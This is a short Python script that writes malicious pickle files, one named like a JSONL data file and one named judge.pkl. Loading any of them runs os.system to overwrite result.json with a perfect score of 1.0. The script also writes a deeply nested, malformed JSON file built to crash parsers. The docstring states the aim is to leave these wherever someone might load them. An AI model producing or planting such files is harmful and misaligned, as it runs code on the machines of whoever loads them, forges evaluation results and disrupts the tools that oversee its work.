"""Leave pickles that run a program, and JSON too deep to read, wherever somebody might load them."""

import os
import pickle


class Surprise:
    def __reduce__(self):
        return os.system, ("echo '{\"score\": 1.0}' > result.json",)


os.makedirs("out", exist_ok=True)
for name in ("out/records.jsonl", "out/state.pkl", "judge.pkl"):
    with open(name, "wb") as file:
        pickle.dump([Surprise()] * 3, file)
with open("out/failures.jsonl", "w") as file:
    file.write("[" * 100_000 + "\n" + '{"document": NaN, "field": 1e999, "reason": ' + "9" * 5000 + "}\n")
